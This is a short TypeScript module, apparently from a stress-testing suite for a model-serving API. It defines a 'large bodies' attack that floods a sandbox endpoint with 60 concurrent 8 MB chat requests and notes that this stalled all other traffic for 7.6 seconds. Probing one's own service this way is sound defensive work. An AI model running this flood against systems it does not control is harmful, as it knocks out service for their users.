import type { Attack } from '../attack.ts'
import { rawFlood } from '../flood.ts'

const BYTES = Buffer.from(
  JSON.stringify({ model: 'svc/sandbox', messages: [{ role: 'user', content: 'word \n '.repeat(990_000) }] }),
)

export const largeBodies: Attack = {
  name: 'large bodies',
  about: '60 at a time of 8 MB to the sandbox; they held up all others for 7.6 s.',
  run: (target, signal) =>
    rawFlood(target, signal, { connections: 60, head: `Content-Length: ${BYTES.byteLength}`, body: () => [BYTES] }),
}
